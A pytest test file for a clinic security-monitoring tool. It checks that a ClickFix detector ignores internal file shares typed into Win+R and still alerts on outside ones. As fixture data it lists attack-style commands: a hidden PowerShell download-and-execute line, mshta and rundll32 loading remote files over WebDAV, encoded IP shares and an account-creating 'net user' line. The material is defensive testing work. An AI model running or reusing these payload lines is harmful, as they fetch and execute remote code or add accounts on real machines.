"""Issue #13: a file share typed into Win+R is everyday clinic work, not a ClickFix alert.

Plain internal shares (short names, private addresses, internal domain names) raise nothing;
shares that fetch from outside (WebDAV, public addresses, tunnelling services) or hand over a
program still raise a high alert, and a share on a public-looking host name a medium one.
The events are Sysmon records as flat JSON lines, stored through the real ingestion.
"""

import importlib.util
import ipaddress
import json
import logging
import shutil
from datetime import timedelta
from pathlib import Path

import pytest

from clinicshield.monitoring.core.detectors.context import DetectionContext
from clinicshield.monitoring.core.detectors.process_rules import detect_process_rules
from clinicshield.monitoring.core.detectors.registry import run_detectors
from clinicshield.monitoring.core.engines import connect
from clinicshield.monitoring.core.ingest import ingest_file
from clinicshield.monitoring.core.sigma_rules import load_rules
from tests.system import need

from .conftest import ORG, at

SIGMA_DIR = Path(__file__).resolve().parents[3].parent / "shared" / "data" / "sigma"
needs_shared = pytest.mark.skipif(
    not SIGMA_DIR.is_dir(), reason=f"shared Sigma data missing: {SIGMA_DIR}"
)
RUN_HISTORY_RULE = "f96627cb-6626-4777-abe2-052877da4c9f"
OUTSIDE_NAME_RULE = "ddd4a025-c091-460e-b067-11ddc9460a9b"
EXPLORER_ONE_LINER_RULE = "3bfe4521-7447-4969-8a35-ba6f13610dd1"
SID = "S-1-5-21-3623811015-3361044348-30300820-1013"
RUNMRU = rf"HKU\{SID}\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"
DAY = at("2026-03-02 00:00")
HOST = "RECEPCION-01.clinica.local"
PADDING = " " * 40

# What reception and the back office type into Win+R all day.
CLINIC_RUN_ENTRIES = [
    r"\\fileserver\escaner\1",  # the entry of issue #13
    r"\\NAS01\Compartido",
    r"\\10.0.0.5\scans",
    r"\\192.168.1.20\Radiologia\2026\Marzo",
    r"\\172.16.4.10\Facturas & Recibos",
    r"\\server.clinic.local\docs",
    r"\\nas01.clinica.lan\Consentimientos\consentimiento_2026-03.pdf",
    r"\\fileserver\escaner\scan_0001.pdf",
    r"\\SRV-DC01\NETLOGON",
    r"\\100.101.7.12\backup",  # a VPN overlay (carrier-grade NAT range), not the internet
]
# What ClickFix and FileFix pages tell people to paste: each fetches from outside or runs.
OUTSIDE_RUN_ENTRIES = [
    r"\\evil.example@SSL\DavWWWRoot\x.hta",
    r"\\203.0.113.5\share\run.ps1",
    r"\\verify-host@80\share\step2",  # WebDAV over HTTP, nothing else unusual
    r"\\198.51.100.23\pub",  # a public address, no file named
    r"\\3405803781\s\doc",  # 203.0.113.5 written as one number
    r"\\0xCB007105\s\doc",  # and in hexadecimal
    r"\\tough-pine-1234.trycloudflare.com\share\verify",
    r"\\docs.example.org@SSL@443\DavWWWRoot\Factura.pdf.lnk",
    r"\\fileserver\software\setup.exe",  # a program, even on an internal share
    r"\\10.0.0.5\it\update.ps1",
    r"cmd /c start /min \\check.example@SSL\DavWWWRoot\v.cmd" + PADDING + "# Verification ID 4417",
    'powershell -w hidden -c "iwr https://captcha-check.example/v.ps1 | iex" # I am not a robot',
]
# Unusual, not an attack by itself: the clinic's domain or a supplier may have such a name.
OUTSIDE_NAME_RUN_ENTRIES = [
    r"\\srv01.clinica-example.es\docs",
    r"\\files.example.com\Compartido",
]

EXPLORER = r"C:\Windows\explorer.exe"
CLINIC_PROCESSES = [
    (r"C:\Windows\System32\notepad.exe", r"notepad.exe \\NAS01\Compartido\turnos.txt"),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n '
        r'"\\server.clinic.local\docs\consentimiento.docx" /o ""',
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -File \\10.0.0.5\scripts\inventario.ps1",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r'C:\Windows\system32\cmd.exe /c ""\\fileserver\it\mapear.bat" "',
    ),
]
OUTSIDE_PROCESSES = [
    (
        r"C:\Windows\System32\mshta.exe",
        r'"C:\Windows\System32\mshta.exe" "\\evil.example@SSL\DavWWWRoot\verify.hta" '
        "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}",
    ),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe \\203.0.113.5\s\update.dll,Start"),
    (
        r"C:\Windows\System32\cmd.exe",
        r'C:\Windows\system32\cmd.exe /c ""\\tough-pine-1234.trycloudflare.com\DavWWWRoot\r.bat" "',
    ),
]


class SysmonLog:
    """Sysmon records as flat JSON lines (NXLog style), the way a clinic's forwarder sends."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.moment = DAY + timedelta(hours=8)
        self.mru = ""

    def _add(self, event_id: int, data: dict) -> None:
        self.moment += timedelta(minutes=3)
        record = {
            "Hostname": HOST,
            "EventID": event_id,
            "SourceName": "Microsoft-Windows-Sysmon",
            "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "RecordNumber": 48200 + len(self.lines),
            "RuleName": "-",
            "UtcTime": self.moment.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": "{9A1C2F4B-11D2-65E2-5A01-000000000F00}",
            "User": r"CLINICA\ana.garcia",
            **data,
        }
        self.lines.append(json.dumps(record))

    def run_dialog(self, typed: str) -> str:
        """Win+R: explorer writes the entry (with Windows' '\\1' suffix) and the MRU order."""
        letter = chr(ord("a") + len(self.mru))
        self.mru = letter + self.mru
        value = typed + "\\1"
        for name, details in ((letter, value), ("MRUList", self.mru)):
            self._add(
                13,
                {
                    "EventType": "SetValue",
                    "ProcessId": "5124",
                    "Image": EXPLORER,
                    "TargetObject": rf"{RUNMRU}\{name}",
                    "Details": details,
                },
            )
        return value

    def process(self, image: str, command_line: str) -> str:
        self._add(
            1,
            {
                "ProcessId": str(7000 + len(self.lines)),
                "Image": image,
                "CommandLine": command_line,
                "CurrentDirectory": "C:\\Users\\ana.garcia\\",
                "IntegrityLevel": "Medium",
                "ParentProcessId": "5124",
                "ParentImage": EXPLORER,
                "ParentCommandLine": EXPLORER,
            },
        )
        return command_line

    def ingest(self, folder: Path, org: str = ORG) -> None:
        path = folder / "sysmon.json"
        path.write_text("\n".join(self.lines) + "\n", encoding="utf-8")
        result = ingest_file(path, data_dir=folder, org=org)
        assert (result.stored_total, result.stored["process"]) == (len(self.lines),) * 2


def day_context(rules) -> DetectionContext:
    return DetectionContext(start=DAY, end=DAY + timedelta(days=1), sigma_rules=tuple(rules))


def severities(findings) -> dict[str, tuple[str, str, set[str]]]:
    """command -> (kind, severity, ids of the rules that matched)."""
    return {
        f.command_line: (f.kind, f.severity, {r["id"] for r in f.evidence["rules"]})
        for f in findings
    }


@pytest.fixture
def clinic_day(tmp_path):
    """One reception PC's day: every entry and process above, ingested; their values."""
    log = SysmonLog()
    values = {
        "clinic": [log.run_dialog(t) for t in CLINIC_RUN_ENTRIES]
        + [log.process(*p) for p in CLINIC_PROCESSES],
        "outside": [log.run_dialog(t) for t in OUTSIDE_RUN_ENTRIES],
        "outside_name": [log.run_dialog(t) for t in OUTSIDE_NAME_RUN_ENTRIES],
        "outside_process": [log.process(*p) for p in OUTSIDE_PROCESSES],
    }
    log.ingest(tmp_path)
    return tmp_path, values


def test_internal_shares_raise_nothing_and_outside_shares_stay_high(clinic_day, con):
    data_dir, values = clinic_day
    ctx = day_context(load_rules([]).rules)
    found = severities(run_detectors(con, data_dir, ORG, ctx, only=["process_rules"]))

    assert [value for value in values["clinic"] if value in found] == []
    # A tunnelling host is also a public-looking name: one finding, both rules, high.
    tunnel = r"\\tough-pine-1234.trycloudflare.com\share\verify" + "\\1"
    assert found[tunnel] == ("clickfix", "high", {RUN_HISTORY_RULE, OUTSIDE_NAME_RULE})
    for value in values["outside"]:
        kind, severity, rules = found.pop(value)
        assert (kind, severity) == ("clickfix", "high"), value
        assert RUN_HISTORY_RULE in rules, value
    for value in values["outside_name"]:
        assert found.pop(value) == ("clickfix", "medium", {OUTSIDE_NAME_RULE}), value
    for command in values["outside_process"]:
        assert found.pop(command) == ("clickfix", "high", {EXPLORER_ONE_LINER_RULE}), command
    assert found == {}


@needs_shared
def test_sigmahq_runmru_rules_stay_quiet_on_internal_shares(clinic_day, con):
    data_dir, values = clinic_day
    ruleset = load_rules([SIGMA_DIR], include_pack=False)
    assert ruleset.problems == []
    ctx = day_context(ruleset.rules)
    found = severities(run_detectors(con, data_dir, ORG, ctx, only=["process_rules"]))
    # Only the entries with a web link plus PowerShell, or '#' padding, are theirs to catch.
    pasted_powershell, padded_cmd = values["outside"][-1], values["outside"][-2]
    assert set(found) == {pasted_powershell, padded_cmd}
    assert {kind_level[:2] for kind_level in found.values()} == {("clickfix", "high")}


@needs_shared
@pytest.mark.django_db
def test_detection_raises_no_alert_for_internal_shares_with_sigmahq_loaded(org_a, settings):
    from clinicshield.monitoring.actions import do_run_detection
    from clinicshield.monitoring.models import Alert

    settings.MONITORING_SIGMA_DIRS = [str(SIGMA_DIR)]
    log = SysmonLog()
    clinic = [log.run_dialog(typed) for typed in CLINIC_RUN_ENTRIES]
    outside = [log.run_dialog(typed) for typed in OUTSIDE_RUN_ENTRIES[:3]]
    outside_name = log.run_dialog(OUTSIDE_NAME_RUN_ENTRIES[0])
    log.ingest(Path(settings.DATA_DIR), org=org_a.slug)

    do_run_detection(org_a, DAY + timedelta(days=1))
    alerts = {
        a.evidence["command_line"]: (a.kind, a.severity)
        for a in Alert.objects.filter(organisation=org_a)
    }
    assert not set(clinic) & set(alerts)
    assert alerts == {
        outside[0]: ("clickfix", "high"),
        outside[1]: ("clickfix", "high"),
        outside[2]: ("clickfix", "high"),
        outside_name: ("clickfix", "medium"),
    }


# Every first octet with the second octets at the edges of the private ranges, and every
# second octet for the first octets that hold a private range in part.
SECOND_OCTET_EDGES = [0, 1, 15, 16, 31, 32, 63, 64, 127, 128, 167, 168, 169, 253, 254, 255]
PRIVATE_NETWORKS = [
    ipaddress.ip_network(n)
    for n in (
        "0.0.0.0/8",
        "10.0.0.0/8",
        "100.64.0.0/10",
        "127.0.0.0/8",
        "169.254.0.0/16",
        "172.16.0.0/12",
        "192.168.0.0/16",
    )
]


def test_the_public_address_pattern_agrees_with_the_private_ranges(store, con):
    pairs = {(a, b) for a in range(256) for b in SECOND_OCTET_EDGES}
    pairs |= {(a, b) for a in (100, 169, 172, 192) for b in range(256)}
    moment = DAY + timedelta(hours=9)
    rows = [
        {
            "ts": moment,
            "host": HOST,
            "user": "ana.garcia",
            "event_code": "sysmon:13",
            "event_type": "SetValue",
            "target_object": RUNMRU + r"\a",
            "details": rf"\\{a}.{b}.7.9\scans" + "\\1",
            "record_ref": f"{a}.{b}",
        }
        for a, b in sorted(pairs)
    ]
    store("process", rows)
    ctx = day_context(load_rules([]).rules)
    flagged = {f.command_line for f in detect_process_rules(con, store.table("process"), ctx)}

    def public(a: int, b: int) -> bool:
        address = ipaddress.ip_address(f"{a}.{b}.7.9")
        return not any(address in network for network in PRIVATE_NETWORKS)

    expected = {rf"\\{a}.{b}.7.9\scans" + "\\1" for a, b in pairs if public(a, b)}
    assert len(expected) > 3000  # most of the address space is public
    assert flagged == expected


def test_case_insensitive_regex_rules_match(store, con, tmp_path):
    rule = tmp_path / "net_user.yml"
    rule.write_text(
        "title: net user with re|i\nlogsource:\n    product: windows\n"
        "    category: process_creation\ndetection:\n    selection:\n"
        "        CommandLine|re|i: 'NET\\s+USER\\s.+/ADD'\n    condition: selection\n"
        "level: medium\n"
    )
    moment = DAY + timedelta(hours=9)
    rows = [
        {
            "ts": moment,
            "host": HOST,
            "user": "ana",
            "event_code": "sysmon:1",
            "record_ref": "1",
            "command_line": "net user eve S3cret /add",
        },
        {
            "ts": moment,
            "host": HOST,
            "user": "ana",
            "event_code": "sysmon:1",
            "record_ref": "2",
            "command_line": "net view",
        },
    ]
    store("process", rows)
    ruleset = load_rules([rule], include_pack=False)
    assert ruleset.problems == []
    found = detect_process_rules(con, store.table("process"), day_context(ruleset.rules))
    assert [f.command_line for f in found] == ["net user eve S3cret /add"]


def test_the_share_patterns_match_the_same_on_spark(clinic_day, con):
    """A chain runs these rules on Spark: its (Java) regular expressions must agree."""
    need(shutil.which("java") is not None, "Java is not installed (openjdk-17-jre-headless)")
    need(importlib.util.find_spec("pyspark") is not None, "pyspark is not installed")
    data_dir, _ = clinic_day
    ctx = day_context(load_rules([]).rules)
    on_duckdb = severities(run_detectors(con, data_dir, ORG, ctx, only=["process_rules"]))
    spark = connect("spark")
    try:
        on_spark = severities(run_detectors(spark, data_dir, ORG, ctx, only=["process_rules"]))
    finally:
        spark._session.stop()
        logging.getLogger("py4j").setLevel(logging.WARNING)
    assert len(on_duckdb) == 17
    assert on_spark == on_duckdb
